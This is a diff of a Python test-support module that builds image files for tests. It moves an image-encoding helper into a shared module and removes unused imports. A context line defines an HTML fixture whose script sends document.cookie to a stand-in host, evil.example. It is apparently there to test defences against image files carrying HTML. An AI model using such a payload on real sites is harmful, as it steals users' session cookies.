@@ -2,22 +2,15 @@
 
 from __future__ import annotations
 
-import io
 import struct
 import zlib
 from functools import cache
-from typing import Any
 
 from PIL import Image
 
+from tests.support.photographs import encode
+
 HTML = b"<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>"
-
-
-def encode(image: Image.Image, image_format: str, **options: Any) -> bytes:
-    """`image` as a file."""
-    stream = io.BytesIO()
-    image.save(stream, image_format, **options)
-    return stream.getvalue()
 
 
 def png_chunk(name: bytes, body: bytes) -> bytes:
